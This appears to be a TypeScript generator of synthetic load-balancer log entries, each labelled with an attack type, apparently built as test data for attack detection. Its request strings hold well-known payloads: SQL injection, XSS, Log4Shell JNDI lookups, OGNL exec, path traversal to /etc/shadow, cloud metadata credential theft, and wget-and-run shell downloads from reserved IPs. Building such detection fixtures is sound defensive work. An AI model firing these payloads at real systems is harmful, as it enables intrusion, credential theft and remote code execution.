import { shop } from './balancers.ts';
import { attackers } from './clients.ts';
import type { AlbRequest } from './lines.ts';
import type { Chance } from './random.ts';

/** A request of the hour with what it is an example of; ordinary ones have no `attack`. */
export interface Labelled {
  readonly request: AlbRequest;
  readonly attack?: string;
}

const chrome =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/104.0.0.0 Safari/537.36';
const minute = 60_000;

interface Shot {
  readonly attack: string;
  /** Path and query as sent. */
  readonly uri: string;
  readonly verb?: string;
  readonly userAgent?: string;
  readonly status?: number;
  /** The balancer's host by default; the bare address for scanners that walk through networks. */
  readonly host?: string;
  readonly blocked?: boolean;
  readonly classification?: AlbRequest['classification'];
}

function fire(chance: Chance, client: string, fromMs: number, shots: readonly Shot[]): readonly Labelled[] {
  let atMs = fromMs;
  const clientPort = chance.between(30_000, 60_000);
  return shots.map((shot) => {
    atMs += chance.between(140, 2300);
    const status = shot.blocked === true ? 403 : (shot.status ?? 404);
    const host = shot.host ?? shop.host;
    const plain = shot.host !== undefined;
    const dispatched = shot.blocked !== true && status !== 400;
    const request: AlbRequest = {
      atMs,
      type: plain ? 'http' : 'https',
      client,
      clientPort: clientPort + chance.between(0, 900),
      ...(dispatched
        ? { target: chance.pick(shop.targets), targetMs: chance.between(2, 40), targetStatus: status }
        : {}),
      status,
      received: chance.between(160, 700),
      sent: status === 200 ? chance.between(300, 1800) : chance.between(160, 600),
      request: `${shot.verb ?? 'GET'} ${plain ? 'http' : 'https'}://${host}:${plain ? 80 : 443}${shot.uri} HTTP/1.1`,
      userAgent: shot.userAgent ?? chrome,
      ...(plain ? {} : { tls: ['ECDHE-RSA-AES128-GCM-SHA256', 'TLSv1.2'] as const, sni: host }),
      rule: 0,
      actions: shot.blocked === true ? 'waf' : 'waf,forward',
      ...(shot.classification === undefined ? {} : { classification: shot.classification }),
      trace: chance.hex(24),
      connection: chance.hex(32),
    };
    return { request, attack: shot.attack };
  });
}

const sweep: readonly Shot[] = [
  { attack: 'dotenv', uri: '/.env' },
  { attack: 'dotenv', uri: '/api/.env.production' },
  { attack: 'git', uri: '/.git/config' },
  { attack: 'phpunit', uri: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' },
  { attack: 'actuator', uri: '/actuator/env' },
  { attack: 'backup', uri: '/backup.sql.gz' },
  { attack: 'cloud-credentials', uri: '/.aws/credentials' },
  { attack: 'wordpress', uri: '/wp-login.php' },
  { attack: 'phpmyadmin', uri: '/phpMyAdmin/scripts/setup.php' },
];

/** The attacks of the hour that begins at `hourMs`. Each shape is well known; hosts in payloads are reserved names. */
export function attacks(chance: Chance, hourMs: number): readonly Labelled[] {
  const at = (minutes: number): number => hourMs + minutes * minute;
  const by = (who: keyof typeof attackers, minutes: number, shots: readonly Shot[]): readonly Labelled[] =>
    fire(chance, attackers[who][0], at(minutes), shots);
  const bare = shop.nodes[0];
  return [
    ...by('survey', 3, [
      { attack: 'raw-ip-host', uri: '/', host: bare, status: 404, userAgent: 'Mozilla/5.0' },
      { attack: 'tool', uri: '/', host: bare, userAgent: 'Mozilla/5.0 zgrab/0.x' },
    ]),
    ...by(
      'scanner',
      7,
      sweep.map((shot) => ({ ...shot, host: bare })),
    ),
    ...by('injector', 21, [
      {
        attack: 'sqli',
        uri: '/search?q=1%27%20OR%20%271%27=%271',
        userAgent: 'sqlmap/1.9.4#stable (https://sqlmap.org)',
        status: 200,
      },
      { attack: 'sqli', uri: '/search?q=x%27%20UNION%20ALL%20SELECT%20NULL,NULL,version()--%20-', status: 500 },
      { attack: 'sqli', uri: '/search?q=1%2527/**/UNiOn/**/sElEcT/**/password/**/FrOm/**/users--', status: 500 },
      { attack: 'sqli', uri: '/p/1%20AND%20SLEEP(5)', blocked: true },
      { attack: 'xss', uri: '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', status: 200 },
      { attack: 'xss', uri: '/search?q=%22%3E%3CsVg/onload%3Dconfirm(1)%3E', blocked: true },
    ]),
    ...by('exploiter', 33, [
      { attack: 'log4shell', uri: '/', userAgent: '${jndi:ldap://callback.example.net:1389/a}', status: 200 },
      {
        attack: 'log4shell',
        uri: '/api/v2/suggest?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fcallback.example.net%2Fa%7D',
      },
      {
        attack: 'spring4shell',
        uri: '/?class.module.classLoader.resources.context.parent.pipeline.first.prefix=shell',
        status: 400,
      },
      {
        attack: 'ognl',
        uri: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/',
      },
      { attack: 'template', uri: '/search?q=%7B%7B7*7%7D%7D', status: 200 },
    ]),
    ...by('intruder', 38, [
      { attack: 'traversal', uri: '/static/..%2f..%2f..%2f..%2fetc%2fpasswd' },
      { attack: 'traversal', uri: '/static/%252e%252e%252f%252e%252e%252fetc/shadow', status: 400 },
      { attack: 'command', uri: '/export/orders.csv?year=2026;wget+http://203.0.113.250/x.sh' },
      { attack: 'metadata', uri: '/img/resize?src=http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
      { attack: 'web-shell', uri: '/uploads/avatar.php?cmd=id', status: 200 },
      { attack: 'crlf', uri: '/go?to=/%0d%0aSet-Cookie:%20sid=owned', status: 302 },
    ]),
    ...by('botnet', 44, [
      {
        attack: 'iot',
        uri: '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.251/bins.sh;sh+bins.sh',
        host: '127.0.0.1',
        userAgent: 'Hello, world',
      },
      { attack: 'iot', uri: '/boaform/admin/formLogin', verb: 'POST', host: bare },
    ]),
    ...by('smuggler', 47, [
      { attack: 'smuggling', uri: '/', verb: 'POST', status: 400, classification: ['Severe', 'BothTeClPresent'] },
      { attack: 'ambiguous', uri: '/', status: 200, classification: ['Ambiguous', 'UndefinedContentLengthSemantics'] },
    ]),
    ...by('prober', 52, [
      { attack: 'method', uri: '/', verb: 'TRACE', status: 405 },
      { attack: 'method', uri: '/', verb: 'PROPFIND', status: 405 },
      {
        attack: 'php-argument',
        uri: '/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
        verb: 'POST',
      },
    ]),
    ...by(
      'stuffer',
      55,
      Array.from({ length: 12 }, (): Shot => ({ attack: 'login', uri: '/account/login', verb: 'POST', status: 401 })),
    ),
    { request: malformed(chance, at(57)), attack: 'malformed' },
  ];
}

/** What an ALB logs for bytes that are no HTTP request: no method, no path, no trace, no rule. */
function malformed(chance: Chance, atMs: number): AlbRequest {
  return {
    atMs,
    type: 'http',
    client: attackers.crawler[0],
    clientPort: 50_512,
    status: 400,
    received: 0,
    sent: 272,
    request: `- http://${shop.host}:80- -`,
    userAgent: '-',
    actions: '-',
    connection: chance.hex(32),
  };
}

/** Three minutes in which a release went wrong: trouble, not an attack. */
export function outage(chance: Chance, hourMs: number): readonly Labelled[] {
  const failing = fire(chance, '84.160.77.12', hourMs + 28 * minute, [
    { attack: 'target-error', uri: '/api/v2/checkout', verb: 'POST', status: 500 },
    { attack: 'target-error', uri: '/api/v2/cart', status: 503 },
    { attack: 'gateway', uri: '/api/v2/cart', status: 502 },
    { attack: 'gateway', uri: '/c/sale', status: 504 },
  ]);
  return failing.map(({ request, attack }) => {
    if (attack !== 'gateway') return { request, attack: 'target-error' };
    const { targetStatus: _status, ...unanswered } = request;
    return { request: { ...unanswered, ...(request.status === 504 ? { targetMs: 60_000 } : {}) }, attack };
  });
}
